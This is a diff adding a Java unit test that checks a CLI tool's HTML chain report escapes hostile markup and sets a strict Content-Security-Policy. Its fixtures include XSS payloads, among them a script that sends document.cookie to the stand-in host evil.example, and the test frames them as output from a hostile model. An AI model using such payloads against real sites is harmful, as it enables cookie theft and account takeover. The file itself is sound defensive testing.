@@ -1,0 +1,38 @@
+package dev.marble.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * A hostile model writes markup as its answer, hoping whoever opens the chain's HTML report runs it. Everything from
+ * the journal is escaped, and the page allows no script at all.
+ */
+class ChainReportSecurityTest {
+
+    @TempDir
+    Path temp;
+
+    @Test
+    void aLinkAnswerWithAScriptComesOutInert() throws IOException {
+        String attack = "<script>fetch('https://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>";
+        CliRunner cli = ChainReportTest.chainOfTwoRounds(temp, "\"><svg onload=alert(2)>", attack);
+
+        var html = cli.run("chain", "report", "c", "--html", "report.html");
+        assertThat(html.exit()).as(html.err()).isZero();
+        String page = Files.readString(cli.project().resolve("report.html"));
+
+        assertThat(page)
+                .doesNotContain("<script")
+                .doesNotContain("<img")
+                .doesNotContain("<svg onload")
+                .contains("&lt;script&gt;fetch(")
+                .contains("&lt;img src=x onerror=alert(1)&gt;")
+                .contains("&quot;&gt;&lt;svg onload=alert(2)&gt;")
+                .contains("Content-Security-Policy\" content=\"default-src 'none'");
+    }
+}
